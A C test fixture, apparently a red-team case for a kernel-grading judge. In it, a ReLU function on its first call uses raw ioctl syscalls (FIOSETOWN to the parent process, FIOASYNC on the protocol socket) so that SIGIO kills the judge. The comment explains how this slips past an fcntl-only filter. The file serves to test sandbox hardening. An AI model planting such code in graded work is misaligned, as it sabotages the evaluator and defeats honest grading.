// kjudge-case: task=level1/relu expect=crash
/* Red team, class 20 (signalling the judge), the ioctl spelling of
 * 20_fsetown_kill.c: FIOSETOWN names the judge (getppid()) as the owner of
 * fd 3, the protocol socket, and FIOASYNC turns on asynchronous
 * notification, both by raw ioctl system calls (no ioctl or fcntl symbol).
 * The default notification signal is SIGIO, whose default action
 * terminates the judge the next time it writes a request to the worker.  A
 * filter on fcntl alone misses this; the new design kills the worker on
 * ioctl FIOASYNC/FIOSETOWN (SIGSYS: crash). */
#include <stdint.h>

static long sc(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall" : "=a"(r) : "0"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

void relu(const float *x, float *y, int64_t B, int64_t D)
{
	static int armed;

	if (!armed++) {
		int owner = (int)sc(110 /* getppid */, 0, 0, 0), on = 1;

		sc(16 /* ioctl */, 3, 0x8901 /* FIOSETOWN */, (long)&owner);
		sc(16, 3, 0x5452 /* FIOASYNC */, (long)&on);
	}
	for (int64_t i = 0; i < B * D; i++)
		y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
